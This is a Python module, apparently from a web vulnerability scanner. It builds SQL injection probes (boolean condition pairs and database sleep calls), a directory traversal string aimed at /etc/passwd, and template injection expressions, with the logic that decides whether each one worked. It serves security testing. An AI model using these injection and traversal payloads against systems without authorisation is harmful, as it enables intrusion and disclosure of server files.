"""Payloads that only an interpreter tells from text, and what shows that one has run. Pure."""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

TIMES = 3
"""How often each request of a pair is measured before a difference counts."""
_PASSWD = re.compile(r"^root:[^:\n]*:0:0:", re.M)
_FILES = re.compile(r"(?i)file|path|template|page|include|doc(?:ument)?|dir|folder|name")
PASSWD = "../" * 8 + "etc/passwd"


@dataclass(frozen=True)
class Pair:
    """Two conditions after a value, of which a query language takes the first for true and the second for false."""

    true: str
    false: str


def pairs(value: str) -> Iterator[tuple[Pair, Pair]]:
    """Pairs for each way to end a literal, and another one of the same kind that must confirm it."""
    for quote in ("'", '"'):
        made = f"{value}{quote} AND {quote}"
        yield (
            Pair(f"{made}1{quote}={quote}1", f"{made}1{quote}={quote}2"),
            Pair(f"{made}k7{quote}={quote}k7", f"{made}k7{quote}={quote}m3"),
        )
    if value.isdigit():
        yield (
            Pair(f"{value} AND 1=1", f"{value} AND 1=2"),
            Pair(f"{value} AND 73=73", f"{value} AND 73=91"),
        )


def evaluated(
    usual: Sequence[object], true: Sequence[object], false: Sequence[object], nothing: object
) -> bool:
    """Whether a condition was evaluated: the true one selects what the value alone does, the false one nothing.

    Text that is taken literally selects nothing in both cases, and a free search finds much the same in both.

    Args:
        usual, true, false: what was selected, each time.
        nothing: what a selection of nothing looks like.
    """
    if not usual or not true or not false or usual[0] == nothing:
        return False
    return all(one == usual[0] for one in (*usual, *true)) and all(one == nothing for one in false)


DELAY = 2
"""Seconds that a query is told to sleep; half of it, and none, must show in proportion."""
_SLEEPS = (
    "{value}'||pg_sleep({seconds})||'",
    "{value}' AND SLEEP({seconds}) AND '1'='1",
    "{value}'; WAITFOR DELAY '0:0:{seconds}'--",
)
_NUMBER_SLEEPS = ("{value}-SLEEP({seconds})", "{value}-(SELECT 0 FROM pg_sleep({seconds}))")


def sleeps(value: str) -> Iterator[str]:
    """Values followed by a call that sleeps, in the languages of common databases; `{seconds}` is left open."""
    for form in (*_SLEEPS, *(_NUMBER_SLEEPS if value.isdigit() else ())):
        yield form.replace("{value}", value.replace("{", "").replace("}", ""))


def slept(long: Sequence[float], half: Sequence[float], none: Sequence[float]) -> bool:
    """Whether responses took as long as the query was told to sleep, each time.

    A slow server is slow whatever is asked for.

    Args:
        long, half, none: seconds that the responses took, for `DELAY`, for half of it, and for no sleep.
    """
    if not long or not half or not none:
        return False
    return (
        max(none) < DELAY / 4
        and min(long) >= DELAY
        and min(half) >= DELAY / 2
        and min(long) - max(half) >= DELAY / 4
    )


def breaks_at_a_quote(plain: Sequence[int], one: Sequence[int], two: Sequence[int]) -> bool:
    """Whether one quote breaks the query, and two, which are an escaped one, do not.

    Args:
        plain, one, two: statuses for the value alone, with one quote after it, and with two.
    """
    return (
        bool(one)
        and all(status >= 500 and status not in (502, 503, 504) for status in one)
        and all(status < 500 for status in (*plain, *two))
    )


@dataclass(frozen=True)
class Sum:
    """An expression in the languages of templates, and its value."""

    text: str
    value: str


def expression(languages: Sequence[str] = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>")) -> Sum:
    """A product that nobody writes by chance."""
    one, two = secrets.randbelow(9000) + 1000, secrets.randbelow(9000) + 1000
    sum = f"{one}*{two}"
    return Sum(" ".join(form % sum for form in languages), str(one * two))


def shows_a_file(content: str) -> bool:
    """Whether content is the table of users that every Unix has."""
    return _PASSWD.search(content) is not None


def names_a_file(parameter: str) -> bool:
    """Whether a parameter may be the name of a file."""
    return _FILES.search(parameter) is not None


def refused_by_firewall(status: int, usual: int) -> bool:
    """Whether a refusal of a payload is one that firewalls give.

    Args:
        usual: the status for harmless text that nothing has: an API may answer 403 to hide what there is.
    """
    return status != usual and status in (403, 406, 418, 429, 493)
